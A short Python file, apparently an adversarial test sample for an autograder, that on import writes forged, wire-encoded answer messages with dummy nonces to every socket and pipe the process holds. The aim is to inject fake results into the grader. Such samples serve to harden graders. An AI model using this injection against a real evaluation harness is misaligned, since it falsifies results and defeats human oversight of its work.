"""attack: answers questions that have not been asked, at its import
question: 2.5
verdict: 0
"""

import os
import stat

from autograder import wire


def _send(data):
    """Write to every socket and pipe that this process holds."""
    for descriptor in range(3, 64):
        try:
            mode = os.fstat(descriptor).st_mode
            if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode):
                rest = memoryview(data)
                while rest:
                    rest = rest[os.write(descriptor, rest):]
        except OSError:
            pass


for _ in range(20):
    _answer = wire.encode({'nonce': '0' * 32, 'kind': 'returned', 'value': 0, 'printed': ''})
    _send(len(_answer).to_bytes(4, 'little') + _answer)
